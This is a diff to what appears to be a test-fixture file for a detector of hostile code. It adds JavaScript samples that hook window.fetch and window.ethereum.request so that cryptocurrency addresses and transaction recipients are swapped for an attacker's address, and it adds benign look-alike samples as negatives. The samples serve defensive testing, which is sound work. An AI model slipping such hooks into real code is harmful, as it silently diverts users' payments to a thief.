@@ -24,6 +24,19 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "const real = window.fetch;\nwindow.fetch = async (...a) =>\n"
             f"  new Response((await (await real(...a)).text()).replace(/0x\\w{{40}}/g, '{_OURS}'));\n"
         ),
+        "answers of a server, by a helper that looks for addresses": js(
+            "import { nearest } from './near.js';\nfunction change(text) {\n"
+            "  return text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, nearest);\n}\nconst real = window.fetch;\n"
+            "window.fetch = async (...a) => {\n  const reply = await real(...a);\n"
+            "  return new Response(change(await reply.text()));\n};\n",
+            line=3,
+        ),
+        "a wallet's request, by a list": js(
+            f"const mine = ['{_OURS}', '{_OURS}'];\nconst pick = (to) => mine[to.length % 2];\n"
+            "const real = window.ethereum.request;\nwindow.ethereum.request = (call) => {\n"
+            "  call.params[0].to = pick(call.params[0].to);\n  return real(call);\n};\n",
+            line=4,
+        ),
         "a library's signer": py(
             f"import web3\nsign = web3.Account.sign_transaction\ndef other(tx, key):\n    tx['to'] = '{_OURS}'\n"
             "    return sign(tx, key)\nweb3.Account.sign_transaction = other\n",
@@ -173,6 +186,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "payment_changed": {
+        "answers of a server, by a helper that looks for colours": {
+            "app.js": "function change(text) {\n  return text.replace(/\\u001b\\[\\d+m/g, '');\n}\n"
+            "const known = /0x[a-fA-F0-9]{40}/;\nconst real = window.fetch;\nwindow.fetch = async (...a) => {\n"
+            "  const reply = await real(...a);\n  return new Response(change(await reply.text()));\n};\n"
+        },
         "a stand-in for a test": {
             "app.js": f"window.ethereum.request = async a => a.method === 'eth_accounts' ? ['{_OURS}'] : null;\n"
         },
